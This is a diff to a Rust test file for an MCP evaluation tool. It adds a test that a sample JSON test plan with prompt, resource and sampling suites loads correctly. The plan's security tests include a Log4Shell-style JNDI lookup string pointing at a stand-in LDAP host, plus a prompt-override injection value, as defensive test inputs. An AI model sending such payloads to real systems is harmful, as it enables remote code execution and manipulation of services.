@@ -171,6 +171,51 @@ fn sampling_suites_of_the_old_package_load() {
     assert_eq!(titles[6..], ["content: mixed", "workflow"]);
 }
 
+/// Shapes of the shipped examples of version 0.1.0, and of its README.
+const SHIPPED: &str = r#"{
+  "server": { "transport": "stdio", "command": "server" },
+  "resourceSuites": [{ "name": "R", "templateTests": [
+    { "name": "missing", "templateUri": "file://{a}/{b}.txt", "parameters": {}, "expectError": "parameter", "retries": 0 },
+    { "name": "one of two", "templateUri": "file://t/{a}/{b}.txt", "parameters": { "a": "x" }, "expectError": "parameter" }
+  ] }],
+  "promptSuites": [
+    { "name": "P", "tests": [{ "name": "greet", "args": { "name": "Alice" } }],
+      "argumentTests": [{ "name": "args", "requiredArgs": ["name"], "optionalArgs": ["role"], "invalidArgs": { "name": 123 } }],
+      "securityTests": [{ "name": "injection", "maliciousInputs": ["{system: 'override'}"], "expectRejection": true }] },
+    { "name": "Q", "argumentTests": [{ "name": "nobody knows of which prompt" }] },
+    { "name": "S", "securityTests": [{ "name": "s", "promptName": "greet",
+      "maliciousInputs": [{ "name": "${jndi:ldap://example.com/x}" }] }] }
+  ],
+  "samplingSuites": [{ "name": "T",
+    "requestTests": [{ "name": "context",
+      "includeContext": [{ "type": "text", "text": "it was sunny" }, { "type": "resource", "uri": "context://prefs" }],
+      "messages": [{ "role": "user", "content": { "type": "text", "text": "and now?" } }] }],
+    "contentTests": [{ "name": "kinds", "testCases": [
+      { "contentType": "text", "input": { "text": "words" }, "expectedHandling": "accept" },
+      { "contentType": "image", "input": { "imageData": "AAAA", "mimeType": "image/gif" }, "expectedHandling": "accept" },
+      { "contentType": "mixed", "input": { "text": "both", "imageData": "BBBB" }, "expectedHandling": "accept" }
+    ] }] }]
+}"#;
+
+#[test]
+fn shapes_of_the_shipped_examples_load() {
+    let plan = load_text("c.json", SHIPPED).unwrap();
+    let prompt = |kind: &CaseKind| match kind {
+        CaseKind::Prompt(case) => case.test.call().map(|call| call.prompt.clone()),
+        _ => None,
+    };
+    let prompts: Vec<String> = plan.cases().filter_map(|case| prompt(&case.kind)).collect();
+    assert_eq!(prompts, ["greet", "greet", "greet", "", "greet"]);
+    let peer = |kind: &CaseKind| if let CaseKind::Peer(case) = kind { Some(case.clone()) } else { None };
+    let peers: Vec<_> = plan.cases().filter_map(|case| peer(&case.kind)).collect();
+    assert_eq!(peers[0].requests.in_order[0].context, ["it was sunny", "context://prefs"]);
+    let answers: Vec<String> =
+        peers[1..].iter().map(|case| serde_json::to_string(&case.client.answers.sampling).unwrap()).collect();
+    for (answer, parts) in answers.iter().zip([["words", "text"], ["AAAA", "image/gif"], ["both", "BBBB"]]) {
+        assert!(parts.iter().all(|part| answer.contains(part)), "{answer}");
+    }
+}
+
 fn names(expected: Option<&mcpvals_model::ExpectedTools>) -> Vec<&str> {
     expected.into_iter().flat_map(|expected| &expected.tools).map(|tool| tool.name.as_str()).collect()
 }
